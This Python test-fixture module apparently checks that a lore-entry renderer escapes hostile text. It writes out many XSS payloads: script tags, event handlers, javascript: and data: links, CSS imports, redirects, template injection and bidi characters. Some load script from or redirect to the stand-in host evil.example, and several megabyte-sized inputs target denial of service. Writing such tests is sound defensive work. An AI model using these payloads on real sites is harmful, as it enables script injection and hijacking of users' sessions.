"""Hostile entries and notes: every attack on a page in every place where text of others stands."""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator
from typing import Any

from lorekeeper.entities import Entity
from lorekeeper.normalize.notes import note_entity
from lorekeeper.notes.note import Link, Note, Section
from lorekeeper.printable import without_controls

SCRIPT = "lorekeeperRan()"
"""What runs if anything does."""

ATTACKS = (
    f"<script>{SCRIPT}</script>",
    f"<ScRiPt src=//evil.example/x.js></sCrIpT>{SCRIPT}",
    f'<img src=x onerror="{SCRIPT}">',
    f"<svg onload={SCRIPT}><animate onbegin={SCRIPT} attributeName=x dur=1s>",
    f"<svg><script>{SCRIPT}</script></svg>",
    f"<math><mtext><style><img src=x onerror={SCRIPT}></style></mtext></math>",
    f'<iframe srcdoc="<script>{SCRIPT}</script>"></iframe>',
    f"<details open ontoggle={SCRIPT}><summary>x</summary></details>",
    f'<a href="javascript:{SCRIPT}">x</a>',
    f"[x](javascript:{SCRIPT})",
    f"[x](JaVaScRiPt&colon;{SCRIPT})",
    f"[x](<java\tscript:{SCRIPT}>)",
    f"[x](data:text/html,<script>{SCRIPT}</script>)",
    f"[x](vbscript:{SCRIPT})",
    "[x](//evil.example/y) [x](/\\evil.example) [x](/%09/evil.example)",
    "[x](https://evil.example) ![x](https://evil.example/x.png) <https://evil.example>",
    f'![x](x"onerror="{SCRIPT})',
    f"[x]: javascript:{SCRIPT}\n\n[x]",
    f"&lt;script&gt;{SCRIPT}&lt;/script&gt; &#60;img src=x onerror={SCRIPT}&#62;",
    f"<style>@import 'https://evil.example'; body {{ background: url(javascript:{SCRIPT}) }}</style>",
    '<p style="position:fixed;inset:0" class="facts" id="main">x</p>',
    '<base href="https://evil.example/"><form action=/logout><button>x</button></form>',
    f'<input autofocus onfocus="{SCRIPT}"><meta http-equiv=refresh content="0;url=//evil.example">',
    f"<!--><img src=x onerror={SCRIPT}>-->",
    f"<![CDATA[<img src=x onerror={SCRIPT}>]]><?php {SCRIPT} ?><!DOCTYPE x>",
    f"```html onmouseover={SCRIPT}\n<script>{SCRIPT}</script>\n```",
    f'`<script>{SCRIPT}</script>` ~~<b onclick="{SCRIPT}">~~',
    f'lore://spells/x/y"onclick={SCRIPT} [x](lore://notes/v/a\'b"c)',
    "\u202egnp.exe\u202c \u2066x\u2069 \u200f\u200e \U000e0041\x00\x1b[31m",
    "</section></article></main></body></html>",
    "# h1\n## Actions\n### h3\n#### h4\nx\n=====\n---",
    "| a | b |\n|---|---|\n| 1 | <script> | 3 |\n| <td onclick=x>",
    "STR|DEX|CON|INT|WIS|CHA\n|---|---|---|---|---|---|\n|<svg onload=x>|2|3",
    "- **<script>x</script>** <img src=x onerror=x>\n- **Armor Class** [x](javascript:x)",
    "*fireball*, **<b>**, _mage armor_ At will: light, <script>",
    "{{ 7 * 7 }} {% include 'x' %} ${7*7} #{7*7}",
)

LARGE: tuple[Callable[[], str], ...] = (
    lambda: "a" * 1_000_000,
    lambda: "*a **b _c `d [e](" * 60_000,
    lambda: "[" * 1_000_000,
    lambda: "> " * 500_000,
    lambda: "|a" * 400_000 + "\n" + "|-" * 400_000,
    lambda: "| a | b |\n|---|---|\n" + "| x | y |\n" * 60_000,
    lambda: "<b><i>" * 160_000,
    lambda: "&#x41;" * 160_000,
    lambda: "\u202e" * 200_000 + "x" * 300_000,
    lambda: "\n".join("#" * (n % 6 + 1) + f" h{n}" for n in range(100_000)),
    lambda: "- " * 500_000,
)
"""Texts of a megabyte or nearly."""

Place = Callable[[str], Entity]


def _entry(entity_type: str, kind: str, name: str = "Gloom Heron", **data: Any) -> Entity:
    return Entity(entity_type, "gloom-heron", name, kind, "own", "open5e-v2", {"name": name, **data})


def _note(text: str) -> Entity:
    sections = (Section("", text), Section(f"{text[:80]} > Deeds", text[:9_000], mark=text[:60]))
    links = (Link(text[:80], shown=text[:80]), Link("World/x.md", shown=text[:40]))
    facts = {text[:60] or "Role": text[:300]}
    note = Note("World/x.md", without_controls(text[:100]).strip() or "x", facts=facts, sections=sections, links=links)
    return note_entity(note, "fens", "Fens", 0.0, {"World/x.md": "World/x.md"}.get)


PLACES: tuple[Place, ...] = (
    lambda text: _entry("spells", "spell", desc=text, higher_level=text, level=1, school=text, range_text=text),
    lambda text: _entry("spells", "spell", name=text[:200] or "x", desc="Nothing."),
    lambda text: _entry(
        "creatures", "creature", desc=text, size=text, alignment=text, armor_class=text, languages=text
    ),
    lambda text: _entry("creatures", "creature", actions=[{"name": text[:200], "desc": text}], traits=text, group=text),
    lambda text: _entry("equipment", "magic-item", desc=text, category=text, rarity=text, cost=text),
    lambda text: _entry("character_options", "class", features=[{"name": text[:200], "desc": text}], table=text),
    lambda text: _entry("character_options", "feat", desc=text, benefits=[{"desc": text}], prerequisite=text),
    lambda text: _entry("rules", "rule", desc=text, parent=text, whatever={text[:100]: text}),
    _note,
)
"""Entries with a text in all places of one kind."""


def hostile_pages(chance: random.Random, number: int) -> Iterator[Entity]:
    """So many entries: each attack in one place after the other, then attacks joined at random."""
    places = {attack: chance.sample(PLACES, len(PLACES)) for attack in ATTACKS}
    made = [places[attack][turn](attack) for turn in range(len(PLACES)) for attack in ATTACKS]
    yield from made[:number]
    for _ in range(number - len(made)):
        parts = chance.choices(ATTACKS, k=chance.randint(2, 5))
        yield chance.choice(PLACES)(chance.choice(("", " ", "\n", "\n\n", "**", "|")).join(parts))


def large_page(number: int) -> Entity:
    """The entry or note with the large text of that number."""
    places = (PLACES[0], *PLACES[2:])  # the other one has it in its name only
    return places[number % len(places)](LARGE[number]())
